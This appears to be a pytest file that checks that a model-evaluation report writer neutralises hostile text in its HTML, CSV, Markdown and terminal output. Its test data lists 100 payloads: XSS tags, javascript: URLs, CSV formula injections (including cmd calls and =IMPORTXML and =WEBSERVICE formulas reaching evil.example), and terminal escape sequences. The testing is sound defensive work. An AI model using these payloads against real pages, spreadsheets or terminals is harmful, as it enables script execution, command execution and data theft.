"""Reliability 41: what a model says is shown and never obeyed, in HTML, Markdown, CSV, terminal."""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from rich.console import Console
from tests.report.invented import NO_SCRIPT

from mull.report import Cell, LedgerRow, ProblemResult, Run, Sample, summary, write_report
from mull.report.browser import ANSWER_LIMIT
from mull.report.tables import Column, Table, escape_csv, markdown, terminal, to_csv
from mull.types import Usage

TAGS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mi//xlink:href='javascript:alert(1)'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<template><script>alert(1)</script></template>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<!-- <script> <!--",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</pre></details><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "{{ 7*7 }}",
    "{% for x in () %}",
    "{{ runs.__class__.__mro__ }}",
    "${alert(1)}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "\u2028alert(1)\u2029",
    "<\u200bscript>",
    "<script\x00>alert(1)</script>",
    "\ud800<script>",
]
LINKS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "<https://evil.example>",
    "https://evil.example/?leak=1",
    "www.evil.example",
    "mail@evil.example",
    "[x]: https://evil.example",
    "[x][y]",
    "| a | b |\n|---|---|",
    "a | b",
    "\\| a",
    "`code` **bold** _it_ ~~x~~",
    "# heading\n## heading",
    "\n\n---\n\n",
    "$\\href{https://evil.example}{x}$",
    "<img src=https://evil.example/p.png>",
]
FORMULAS = [
    "=1+1",
    '=HYPERLINK("https://evil.example","x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t @x",
    "＝1+1",
    "＋1",
    "|calc",
    "%0A=1+1",
    '";=1+1;"',
    '",=1+1,"',
    '=IMPORTXML(CONCAT("https://evil.example/",A1))',
    '=WEBSERVICE("https://evil.example")',
    "\u200b=1+1",
]
TERMINAL = [
    "\x1b[31mred\x1b[0m",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP+q544e\x1b\\",
    "\x1b[6n",
    "\x1b[?1049h",
    "\x1bc",
    "\x9b31mred",
    "\x9d0;title\x9c",
    "\x90x\x9c",
    "\x07\x08\x08\x08",
    "safe\rEVIL",
    "a\x0bb\x0cc",
    "\x7f\x7f",
    "\u202eevil\u202c",
    "\u2066a\u2069",
    "[red]x[/red] [link=https://evil.example]y[/link]",
    "\x00\x1a\x04",
]  # fmt: skip
PAYLOADS = [*TAGS, *LINKS, *FORMULAS, *TERMINAL]


def hostile_run(texts: list[str]) -> Run:
    """A run in which every field that a model, a user or an endpoint fills holds such a text."""
    problems = []
    for i, text in enumerate(texts):
        answer = text
        samples = tuple(
            Sample((k,), text, answer, 0, k == 0, "correct", usage=Usage(5, 0, 7), stop=text,
                   scores={text: 0.5})
            for k in range(2)
        )  # fmt: skip
        level = text if i % 25 == 0 else "plain"
        problems.append(
            ProblemResult(f"{i} {text}", text, text, level, samples, answer, True, 1.0, text)
        )
    pooled = Cell(texts[0], texts[1], 0, tuple(problems), {texts[2]: texts[3]})
    one = problems[0]
    others = [
        Cell(text, text, 0, (replace(one, samples=one.samples[:1]),), {}, independent=False)
        for text in texts
    ]
    rows = tuple(LedgerRow(text, text, Usage(1, 0, 1), 1, text) for text in texts)
    facts = {f"{i}{text}": text for i, text in enumerate(texts)}
    joined = "\n".join(texts)
    return Run(
        texts[4],
        joined,
        joined,
        joined,
        joined,
        joined,
        (pooled, *others),
        ledger=rows,
        facts=facts,
    )


class Structure(HTMLParser):
    """Tags with the names of their attributes, and attribute values that could act."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, tuple[str, ...]]] = []
        self.values: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, tuple(name for name, _ in attrs)))
        acting = ("href", "src", "action", "style", "xlink:href", "srcdoc", "content")
        self.values += [value or "" for name, value in attrs if name in acting]


def structure(page: str) -> Structure:
    # The browser's data and the figures are looked at on their own.
    outside = re.sub(r'id="data">.*?</script>', 'id="data"></script>', page, flags=re.DOTALL)
    outside = re.sub(r"<svg.*?</svg>", "<svg></svg>", outside, flags=re.DOTALL)
    parser = Structure()
    parser.feed(outside)
    return parser


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A report of 100 hostile texts, and one of 100 harmless ones."""
    made = []
    harmless = [f"harmless {i}" for i in range(len(PAYLOADS))]
    for name, texts in (("hostile", PAYLOADS), ("harmless", harmless)):
        out = tmp_path_factory.mktemp(name)
        write_report([hostile_run(texts)], out, resamples=20, draws=10)
        made.append(out)
    return made[0], made[1]


def test_there_are_a_hundred_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) == 100


@pytest.mark.timeout(60)
def test_hostile_texts_add_no_tag_and_no_attribute_to_the_page(reports: tuple[Path, Path]) -> None:
    hostile, harmless = (
        structure((out / "report.html").read_text(encoding="utf-8")) for out in reports
    )
    assert len(hostile.tags) == len(harmless.tags)
    for got, expected in zip(hostile.tags, harmless.tags, strict=True):
        assert got == expected
    assert hostile.values == harmless.values


@pytest.mark.timeout(60)
def test_the_embedded_data_cannot_end_their_block_and_come_back_whole(
    reports: tuple[Path, Path],
) -> None:
    page = (reports[0] / "report.html").read_text(encoding="utf-8")
    start = page.index('id="data">') + len('id="data">')
    raw = page[start : page.index("</script>", start)]
    assert not set("<>&\u2028\u2029") & set(raw)
    data = json.loads(raw)
    shown = data["cells"][0]["problems"]
    assert [p["prompt"] for p in shown] == PAYLOADS
    assert [p["answer"] for p in shown] == [text[:ANSWER_LIMIT] for text in PAYLOADS]
    assert all(p["texts"]["0"] == text for p, text in zip(shown, PAYLOADS, strict=True))


@pytest.mark.timeout(60)
def test_the_script_puts_texts_on_the_page_as_text_only(reports: tuple[Path, Path]) -> None:
    page = (reports[0] / "report.html").read_text(encoding="utf-8")
    script = page[page.rindex("<script>") :]
    assert not [word for word in NO_SCRIPT if word in script]


@pytest.mark.timeout(60)
def test_figures_are_sound_xml_that_draws_text_and_nothing_else(
    reports: tuple[Path, Path],
) -> None:
    allowed = {"svg", "g", "defs", "style", "path", "use", "text", "tspan", "clipPath", "rect"}
    allowed |= {"metadata", "RDF", "Work", "type", "format", "title"}
    for path in sorted((reports[0] / "plots").glob("*.svg")):
        root = ElementTree.parse(path).getroot()  # noqa: S314 (our own file)
        names = {element.tag.rpartition("}")[2] for element in root.iter()}
        assert names <= allowed, path.name


@pytest.mark.timeout(60)
def test_tables_on_disk_hold_no_formula_no_tag_and_no_control_character(
    reports: tuple[Path, Path],
) -> None:
    for path in sorted((reports[0] / "tables").iterdir()):
        text = path.read_bytes().decode("utf-8")
        controls = {c for c in text if unicodedata.category(c) in ("Cc", "Cf")}
        assert controls <= {"\r", "\n", "\t"}, path.name
        if path.suffix == ".csv":
            for row in csv.reader(io.StringIO(text, newline="")):
                for cell in row:
                    number = re.fullmatch(r"-?[\d.]+(e[+-]\d+)?", cell)
                    assert number or not cell.lstrip().startswith(tuple("=+-@|%\t\r＝＋－＠")), cell
        else:
            assert "<" not in text and "](" not in text.replace("\\](", ""), path.name


@pytest.mark.parametrize("text", PAYLOADS, ids=range(100))
def test_a_payload_stays_in_its_cell(text: str) -> None:
    table = Table("t", "t", (Column("a"), Column("b")), ((text, "end"),))
    rows = list(csv.reader(io.StringIO(to_csv(table), newline="")))
    assert rows[1] == [escape_csv(text), "end"]
    lines = markdown(table).splitlines()
    assert len(lines) == 5 and lines[4].endswith(" | end |")
    console = Console(width=200, file=io.StringIO(), force_terminal=True, color_system="truecolor")
    console.print(terminal(table))
    # What is left of escape sequences is rich's own styling of the frame.
    shown = re.sub(r"\x1b\[[\d;]*m", "", console.file.getvalue())  # type: ignore[attr-defined]
    assert not {c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs")} - {"\n"}
    assert not re.search(r"\x1b\[31m|\x1b\[38;2", console.file.getvalue())  # type: ignore[attr-defined]


@pytest.mark.timeout(60)
def test_the_terminal_summary_of_hostile_texts_obeys_none() -> None:
    console = Console(width=120, file=io.StringIO(), force_terminal=True)
    for table in summary([hostile_run(PAYLOADS)], resamples=10, draws=5):
        console.print(table)
    shown = re.sub(r"\x1b\[[\d;]*m", "", console.file.getvalue())  # type: ignore[attr-defined]
    assert not {c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs")} - {"\n"}
